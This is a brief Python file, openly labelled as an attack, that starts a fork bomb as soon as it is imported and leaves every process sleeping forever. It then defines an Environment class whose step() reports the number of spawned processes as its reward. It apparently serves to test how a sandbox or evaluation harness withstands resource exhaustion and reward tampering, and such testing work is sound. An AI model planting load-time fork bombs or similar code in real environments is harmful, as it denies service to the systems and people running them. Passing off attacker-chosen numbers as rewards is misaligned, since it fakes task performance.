"""Attack: a fork bomb started at load time. Every process forks until the OS refuses, then
sleeps forever; the main process answers honestly (zeros) and reports, as the reward, how many
children the first bomber managed to create."""

import os
import time

reader, writer = os.pipe()
if os.fork() == 0:
    os.close(reader)
    root, created = True, 0
    while True:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            root = False  # every child keeps bombing
        elif root:
            created += 1
    if root:
        os.write(writer, f"{created}\n".encode())
    os.close(writer)
    while True:
        time.sleep(1000)
os.close(writer)
with os.fdopen(reader) as stream:
    CREATED = float(stream.readline() or 0)


class Environment:
    def set_state(self, state):
        self.state = state

    def step(self, action):
        return [0.0, 0.0, 0.0, 0.0], CREATED, False
